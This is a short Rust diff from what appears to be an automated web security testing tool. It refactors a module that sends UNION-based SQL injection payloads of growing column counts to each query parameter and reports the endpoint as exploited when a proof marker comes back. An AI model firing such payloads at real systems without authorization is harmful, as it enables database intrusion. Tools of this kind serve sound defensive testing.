@@ -3,7 +3,6 @@
 use crate::door::{GuideDoor, ShutBy};
 use crate::oracle;
 use crate::payloads::sql::{MAX_UNION_COLUMNS, UNION_COLUMN, UNION_PROOF};
-use crate::probe::Probe;
 use crate::probing::{Attack, AttackError, Probing};
 use crate::verdict::{Attempts, Verdict};
 
@@ -21,8 +20,7 @@ async fn run(p: Probing<'_>) -> Result<Verdict, AttackError> {
     for (endpoint, name) in p.surface.queries() {
         for columns in 1..=MAX_UNION_COLUMNS {
             let payload = format!("zz' UNION SELECT {} -- ", [UNION_COLUMN].repeat(columns).join(","));
-            let (answer, seen) =
-                p.send(&p.authenticated(Probe::query(&endpoint.path, name, &payload))).await?;
+            let (answer, seen) = p.send(&p.query(endpoint, name, &payload)).await?;
             if oracle::contains(&answer, UNION_PROOF) {
                 let summary = format!("{name} returns a row that was selected by me ({columns} columns)");
                 return Ok(Verdict::exploited(summary, vec![seen]));
